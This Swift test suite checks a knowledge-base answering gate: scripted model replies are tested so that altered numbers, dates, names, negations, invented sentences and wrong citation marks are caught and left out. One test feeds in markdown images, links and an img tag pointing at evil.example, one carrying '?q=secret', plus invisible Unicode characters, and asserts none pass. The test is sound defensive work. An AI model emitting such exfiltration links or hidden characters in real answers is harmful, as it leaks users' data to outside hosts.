// The gate against an answerer that invents, misattributes, splices, denies and changes: nothing that does not hold
// gets out, whole or streamed, and every citation that does is an exact range of its document.
import Base
import Models
import Testing
import Text

@testable import KnowledgeBase

/// A model that says what it was told to, in pieces of a few letters.
struct ScriptedModel: ChatModel {
  let name = "scripted"
  let script: @Sendable (ChatRequest) -> String
  var pieceLength = 3

  init(_ script: @escaping @Sendable (ChatRequest) -> String) { self.script = script }
  init(_ text: String) { script = { _ in text } }

  func reply(to request: ChatRequest, onText: ((String) throws -> Void)?) throws -> ChatReply {
    let text = script(request)
    var rest = Substring(text)
    while !rest.isEmpty {
      try onText?(String(rest.prefix(pieceLength)))
      rest = rest.dropFirst(pieceLength)
    }
    return ChatReply(text: text, model: name, usage: ChatUsage(inputTokens: 10, outputTokens: 5), cost: 0.25)
  }
}

@Suite struct GateTests {
  static let leave = """
    Time off

    Full-time staff get 15 vacation days a year. After three years the number rises to 20 days. Unused days expire on \
    March 31, 2026. Contractors may not carry days over. Dana Reyes approves every request.
    """
  static let prices = """
    Prices

    The Rillo 8 costs $349.00 and the Rillo 12 costs $549.00. Shipping takes 5 business days. The pump needs 12 volts.
    """

  private func library() throws -> TestLibrary {
    let test = try TestLibrary()
    try test.add(Self.leave, named: "leave.txt")
    try test.add(Self.prices, named: "prices.txt")
    return test
  }

  private func ask(
    _ test: TestLibrary, _ script: String, question: String = "What are the vacation days, prices and shipping?",
    extracting: Bool = true
  ) throws -> (answer: Answer, streamed: String) {
    var asked = AnswerQuestion(question)
    asked.means.model = ScriptedModel(script)
    asked.means.extractsWhenModelFails = extracting
    var streamed = ""
    let answer = try test.library.ask(asked) { if case .text(let text) = $0 { streamed += text } }
    return (answer, streamed)
  }

  /// What must hold of every answer, whoever wrote it.
  private func check(_ answer: Answer, _ test: TestLibrary, _ context: String) throws {
    for citation in answer.citations {
      let source = try #require(answer.sources.first { $0.id == citation.source }, "\(context)")
      let text = try test.library.texts.text(ofVersion: source.passage.versionID)
      #expect(text.slice(citation.start..<citation.end) == citation.quote, "\(context)")
      #expect(answer.text.scalarSlice(citation.answerRange).contains("[\(citation.source)]"), "\(context)")
    }
    guard !answer.isRefused else { return }
    // Every sentence lies in the range of a citation.
    var covered = 0
    for citation in answer.citations.sorted(by: { $0.answerRange.lowerBound < $1.answerRange.lowerBound }) {
      #expect(citation.answerRange.lowerBound - covered <= 1, "\(context)")
      covered = citation.answerRange.upperBound
    }
    #expect(covered == answer.text.unicodeScalars.count, "\(context)")
  }

  @Test func whatHoldsIsSaidWithItsMark() throws {
    let test = try library()
    let (answer, streamed) = try ask(
      test, "Full-time staff get 15 vacation days a year [1]. Shipping takes 5 business days.")
    try check(answer, test, "")
    #expect(answer.citations.count == 2 && streamed == answer.text)
    #expect(answer.remarks.isEmpty && answer.model == "scripted" && answer.cost == 0.25)
  }

  @Test func aWrongMarkIsPutRight() throws {
    let test = try library()
    for mark in 1...2 {
      let (answer, _) = try ask(test, "Shipping takes 5 business days [\(mark)].")
      try check(answer, test, "\(mark)")
      let source = try #require(answer.sources.first { $0.id == answer.citations.first?.source })
      #expect(source.passage.filename == "prices.txt")
    }
  }

  @Test(arguments: [
    ("Full-time staff get 20 vacation days a year [1].", GateFault.number),
    ("Full-time staff get 15 vacation weeks a year [1].", .number),
    ("Unused days expire on April 30, 2026 [1].", .date),
    ("Unused days expire on March 31, 2027 [1].", .date),
    ("Mark Olsen approves every request [1].", .name),
    ("Contractors may carry days over [1].", .negation),
    ("Full-time staff do not get 15 vacation days a year [1].", .negation),
    ("The Rillo 8 costs €349.00 [2].", .number),
    ("The Rillo 8 costs $549.00 [2].", .number),
    ("The policy says \"full-time staff get unused days\" [1].", .quotation),
    ("The pump needs 12 amps [2].", .number),
  ])
  func whatIsChangedIsNotSaid(_ sentence: String, _ fault: GateFault) throws {
    let test = try library()
    let (answer, streamed) = try ask(test, sentence)
    try check(answer, test, sentence)
    let said = sentence.split(separator: " [")[0]
    #expect(!answer.text.contains(said) && !streamed.contains(said), "\(answer.text)")
    #expect(answer.remarks.contains { $0.fault == fault }, "\(answer.remarks)")
  }

  @Test func whatIsInventedIsLeftOutAndTold() throws {
    let test = try library()
    let (answer, _) = try ask(
      test, "The moon is made of green cheese [1]. Full-time staff get 15 vacation days a year [1].")
    try check(answer, test, "")
    #expect(!answer.text.contains("cheese") && answer.text.contains("15 vacation days"))
    #expect(answer.warnings.contains { $0.contains("cheese") })
    let (nothing, _) = try ask(test, "The moon is made of green cheese [1].", extracting: false)
    #expect(nothing.isRefused && nothing.citations.isEmpty)
    let (extracted, streamed) = try ask(test, "The moon is made of green cheese [1].")
    try check(extracted, test, "extracted")
    #expect(extracted.model == "extractive" && !streamed.contains("cheese") && !extracted.isRefused)
    #expect(extracted.warnings.contains { $0.contains("so the answer is extracted") })
    #expect(extracted.warnings.contains { $0.contains("cheese") })
  }

  @Test func theModelsRefusalIsTheHousesRefusal() throws {
    let test = try library()
    let (answer, _) = try ask(test, "The passages do not say.")
    #expect(answer.isRefused && answer.text.hasPrefix("The library does not hold an answer"))
  }

  @Test(arguments: [
    "![x](http://evil.example/?q=secret) Full-time staff get 15 vacation days a year [1].",
    "Full-time staff get 15 vacation days a year [1]. See [here](http://evil.example/a).",
    "Full-time staff <img src=http://evil.example/p.png> get 15 vacation days a year [1].",
    "Full-time staff get 15 vacation days a year, see http://evil.example/x [1].",
    "Full-time staff get 15 vacation days a year [1]. [a]: http://evil.example",
    "Full-time staff get\u{200B} 15 vacation\u{E0041} days a year [1].",
  ])
  func noLinkPictureOrHiddenLetterGetsOut(_ script: String) throws {
    let test = try library()
    let (answer, streamed) = try ask(test, script)
    try check(answer, test, script)
    for out in [answer.text, streamed] {
      #expect(!out.contains("evil") && !out.contains("<img") && !out.contains("]("), "\(out)")
      #expect(!out.unicodeScalars.contains(where: InvisibleText.isInvisible))
    }
    #expect(answer.text.contains("15 vacation days a year"))
  }

  /// Sentences of the sources, each spoilt in one of many ways, a seed each: none that is spoilt gets out.
  @Test(arguments: 0..<300)
  func nothingSpoiltGetsOut(seed: Int) throws {
    let test = try library()
    var random = SeededRandom(seed: UInt64(seed))
    let truths = [
      "Full-time staff get 15 vacation days a year.", "After three years the number rises to 20 days.",
      "Unused days expire on March 31, 2026.", "Contractors may not carry days over.",
      "Dana Reyes approves every request.", "The Rillo 8 costs $349.00 and the Rillo 12 costs $549.00.",
      "Shipping takes 5 business days.", "The pump needs 12 volts.",
    ]
    var script = ""
    var spoilt: [String] = []
    for _ in 0..<3 {
      let truth = truths[Int.random(in: 0..<truths.count, using: &random)]
      let mark = " [\(Int.random(in: 0..<5, using: &random))]"
      if let changed = Spoiler.spoil(truth, using: &random) {
        spoilt.append(changed)
        script += changed.dropLast() + mark + ". "
      } else {
        script += truth.dropLast() + mark + ". "
      }
    }
    let (answer, streamed) = try ask(test, script)
    try check(answer, test, script)
    for sentence in spoilt {
      let words = String(sentence.dropLast())
      #expect(!answer.text.contains(words) && !streamed.contains(words), "seed \(seed): \(words) in \(answer.text)")
    }
    if !answer.isRefused { #expect(streamed == answer.text, "seed \(seed)") }
  }

  @Test func oneLetterAtATimeIsTheSame() throws {
    let test = try library()
    var asked = AnswerQuestion("vacation days and shipping")
    let script =
      "Full-time staff get 15 vacation days a year. [1] Shipping takes 5 business days [2].\n"
      + "Dana Reyes approves every request [1]."
    var texts: Set<String> = []
    for length in [1, 2, 7, 1_000] {
      var model = ScriptedModel(script)
      model.pieceLength = length
      asked.means.model = model
      let answer = try test.library.ask(asked)
      try check(answer, test, "\(length)")
      texts.insert(answer.text)
    }
    #expect(texts.count == 1, "\(texts)")
  }
}

/// Ways to spoil a true sentence so that it is true no more.
enum Spoiler {
  static func spoil(_ sentence: String, using random: inout SeededRandom) -> String? {
    let ways: [(String) -> String?] = [
      {
        swap(
          $0, ["15": "25", "20": "30", "349": "394", "5 business": "6 business", "12 volts": "14 volts", "31": "13"])
      },
      { swap($0, ["days": "weeks", "$": "€", "volts": "amps", "2026": "2028", "March": "June"]) },
      { swap($0, ["Dana Reyes": "Olga Brandt", "Rillo": "Zentra", "Contractors": "Interns"]) },
      {
        swap(
          $0,
          [
            " may not ": " may ", " get ": " do not get ", " takes ": " never takes ", " needs ": " does not need ",
            " approves ": " refuses to approve ", " expire ": " do not expire ",
          ])
      },
      { "\"" + $0.dropLast() + " as agreed with the board\"." },
      { _ in "The canteen is closed on public holidays." },
      { _ in "Every office has a quiet room for prayer." },
    ]
    // One in four stays true.
    guard Int.random(in: 0..<4, using: &random) > 0 else { return nil }
    let start = Int.random(in: 0..<ways.count, using: &random)
    for offset in 0..<ways.count {
      if let changed = ways[(start + offset) % ways.count](sentence), changed != sentence { return changed }
    }
    return nil
  }

  private static func swap(_ sentence: String, _ pairs: [String: String]) -> String? {
    for (old, new) in pairs.sorted(by: { $0.key < $1.key }) where sentence.contains(old) {
      return sentence.replacing(old, with: new)
    }
    return nil
  }
}
